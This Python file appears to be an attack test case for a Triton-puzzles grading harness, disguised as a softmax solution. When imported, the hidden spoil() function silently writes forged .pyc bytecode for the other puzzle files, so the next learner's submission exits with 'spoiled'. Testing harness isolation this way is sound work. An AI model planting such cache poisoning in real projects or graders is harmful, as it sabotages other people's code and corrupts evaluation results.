"""Leaves bytecode of its own for the file of the learner who comes next.

Must: fail | error
"""

import contextlib
import importlib.util
import marshal
import struct
from pathlib import Path

import torch


def spoil():
    assert "tritonpuzzles-attacked-" in __file__
    for path in Path(__file__).parent.glob("p0*.py"):
        if path.name == Path(__file__).name:
            continue
        cached = Path(importlib.util.cache_from_source(str(path)))
        cached.parent.mkdir(exist_ok=True)
        code = marshal.dumps(compile("raise SystemExit('spoiled')", str(path), "exec"))
        seen = path.stat()
        stamp = struct.pack("<III", 0, int(seen.st_mtime) & 0xFFFFFFFF, seen.st_size & 0xFFFFFFFF)
        cached.write_bytes(importlib.util.MAGIC_NUMBER + stamp + code)


with contextlib.suppress(Exception):
    spoil()


def softmax(x):
    return torch.softmax(x, dim=1)
